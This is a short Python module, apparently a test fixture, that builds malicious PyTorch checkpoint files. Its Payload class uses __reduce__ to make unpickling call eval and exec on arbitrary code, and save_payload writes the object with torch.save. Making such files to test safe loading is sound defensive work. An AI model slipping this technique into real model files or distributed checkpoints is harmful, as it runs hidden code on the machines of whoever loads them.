"""Files made to do harm: pickles that run code when they are read."""

from pathlib import Path
from typing import Any

import torch


class Payload:
    """Pickled, it runs ``code`` on being read, and is what that assigns to ``result``."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Any, ...]:
        call = f"(lambda names: (exec({self.code!r}, names), names.get('result', 0))[1])({{}})"
        return eval, (call,)


def save_payload(path: Path, code: str, **more: Any) -> Path:
    torch.save({**more, "payload": Payload(code)}, path)
    return path
